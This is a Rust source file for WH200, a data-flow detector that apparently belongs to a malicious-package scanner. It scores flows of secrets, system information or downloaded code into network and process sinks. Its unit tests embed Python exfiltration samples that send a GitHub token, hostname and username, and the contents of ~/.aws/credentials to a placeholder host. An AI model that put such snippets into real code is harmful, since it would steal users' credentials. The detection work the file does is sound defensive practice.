//! WH200 data-flow: sensitive or untrusted data reaching a sink in the same scope.

use ruff_python_ast::ExprCall;
use ruff_text_size::Ranged;

use crate::finding::{Category, ExecContext, Rule};
use crate::walker::{Checker, SourceKind};

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH200",
    name: "data-flow",
    description: "Data from a sensitive source (credentials, system information, environment, network) reaches a network, process or exec sink",
    rationale: "A capability is not a crime; moving stolen data out, or running what was downloaded, \
                is. Flows are traced through assignments, containers, f-strings and concatenation \
                within a scope, and reported as `source (file:line) → sink (file:line)`.",
    category: Category::Flow,
};

/// Kinds of sinks a flow can end in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SinkKind {
    /// Sent over the network (HTTP, socket, DNS, mail).
    Network,
    /// Passed to a process.
    Process,
}

/// Checks whether any argument of a sink call carries source data.
pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
    let arguments: Vec<&ruff_python_ast::Expr> = call
        .arguments
        .args
        .iter()
        .chain(call.arguments.keywords.iter().map(|k| &k.value))
        .collect();
    let Some(source) = arguments.into_iter().find_map(|arg| checker.source_in(arg)) else {
        return;
    };
    let Some(source) = checker.sources.get(source).cloned() else {
        return;
    };
    // Uploading or running an ordinary local file is what tools do; it is no flow of stolen data.
    if source.kind == SourceKind::FileContent {
        return;
    }
    let context = checker.context();
    let early = matches!(context, ExecContext::Install | ExecContext::Import);
    let stealer = super::secrets_access::is_stealer_target(&source.label);
    let from_environment_variable = source.label.starts_with("environment variable");
    let severity = match (source.kind, sink) {
        (SourceKind::Secret, SinkKind::Network) if early => 0.9,
        // Clients send their own API tokens to their own services when called; stolen browser
        // or wallet data has no such excuse.
        (SourceKind::Secret, SinkKind::Network) if stealer => 0.6,
        (SourceKind::Secret, SinkKind::Network) if from_environment_variable => 0.05,
        (SourceKind::Secret, SinkKind::Network) => 0.2,
        (SourceKind::SystemInfo, SinkKind::Network) => {
            if early {
                0.75
            } else {
                0.12
            }
        }
        (SourceKind::Environment, SinkKind::Network) => {
            if early {
                0.75
            } else {
                0.2
            }
        }
        (SourceKind::Network, SinkKind::Process) => {
            if early {
                0.85
            } else {
                0.35
            }
        }
        (SourceKind::Decoded, SinkKind::Process) => {
            if early {
                0.7
            } else {
                0.3
            }
        }
        (SourceKind::Secret, SinkKind::Process) if early => 0.15,
        (_, _) => 0.05,
    };
    let severity = if context == ExecContext::TestOrDocs {
        severity * 0.3
    } else {
        severity
    };
    let sink_word = match sink {
        SinkKind::Network => "network",
        SinkKind::Process => "process",
    };
    let sink_location = checker.location(call.range());
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{} ({}) → {sink_word} sink ({sink_location}) {}",
            source.label,
            source.location,
            context.phrase()
        ),
        severity,
        vec!["flow", flow_tag(source.kind, sink)],
    );
}

fn flow_tag(kind: SourceKind, sink: SinkKind) -> &'static str {
    match (kind, sink) {
        (SourceKind::Secret, SinkKind::Network) => "flow-secret-network",
        (SourceKind::SystemInfo, SinkKind::Network) => "flow-sysinfo-network",
        (SourceKind::Environment, SinkKind::Network) => "flow-env-network",
        (SourceKind::Network, SinkKind::Process) => "flow-download-exec",
        _ => "flow-other",
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::indexing_slicing)]
    use crate::rules::testing::{findings, max_severity};

    #[test]
    fn secret_to_network_is_traced() {
        let code = "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\ndata = {'t': token}\nrequests.post('https://example.invalid', json=data)\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
        let flows: Vec<_> = findings("p/pkg/__init__.py", code)
            .into_iter()
            .filter(|f| f.rule == "WH200")
            .collect();
        assert!(flows[0].message.contains("p/pkg/__init__.py:2"));
    }

    #[test]
    fn recon_exfiltration_at_install() {
        let code = "import socket, getpass, urllib.request\nh = socket.gethostname()\nu = getpass.getuser()\nurllib.request.urlopen('https://example.invalid/?h=' + h + '&u=' + u)\n";
        assert!(max_severity("p/setup.py", code, "WH200") >= 0.7);
    }

    #[test]
    fn credentials_read_through_a_handle_flow() {
        let code = "import os, urllib.request\npath = os.path.expanduser('~/.aws/credentials')\nwith open(path) as handle:\n    stolen = handle.read()\nurllib.request.urlopen('https://example.invalid', data=stolen.encode())\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
    }

    #[test]
    fn unrelated_data_does_not_flow() {
        let code =
            "import requests\nx = 'hello'\nrequests.post('https://example.invalid', data=x)\n";
        assert_eq!(max_severity("p/pkg/__init__.py", code, "WH200"), 0.0);
    }
}
